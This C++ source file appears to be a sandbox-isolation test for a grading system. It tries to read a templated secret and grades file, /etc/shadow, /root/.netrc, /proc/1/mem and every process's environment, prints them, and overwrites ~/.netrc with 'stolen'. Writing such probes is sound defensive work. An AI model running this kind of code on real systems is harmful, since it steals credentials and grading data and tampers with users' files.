#include <dirent.h>
#include <cstdio>
#include <cstdlib>
#include <fstream>
#include <iostream>
#include <string>

int main(int, char**, char** environment) {
  for (const char* path : {"@SECRET@", "@ADA@", "@GRADES@", "/etc/shadow", "/proc/1/environ",
                           "/proc/2/environ", "/root/.netrc", "/proc/1/mem"}) {
    std::ifstream file(path);
    for (std::string line; std::getline(file, line);) std::cout << line << "\n";
  }
  for (char** each = environment; *each != nullptr; ++each) std::puts(*each);
  if (DIR* folder = opendir("/proc"))
    while (dirent* each = readdir(folder)) {
      std::ifstream file(std::string("/proc/") + each->d_name + "/environ");
      for (std::string line; std::getline(file, line);) std::cout << line << "\n";
    }
  std::ofstream((std::string(std::getenv("HOME")) + "/.netrc").c_str()) << "stolen\n";
}
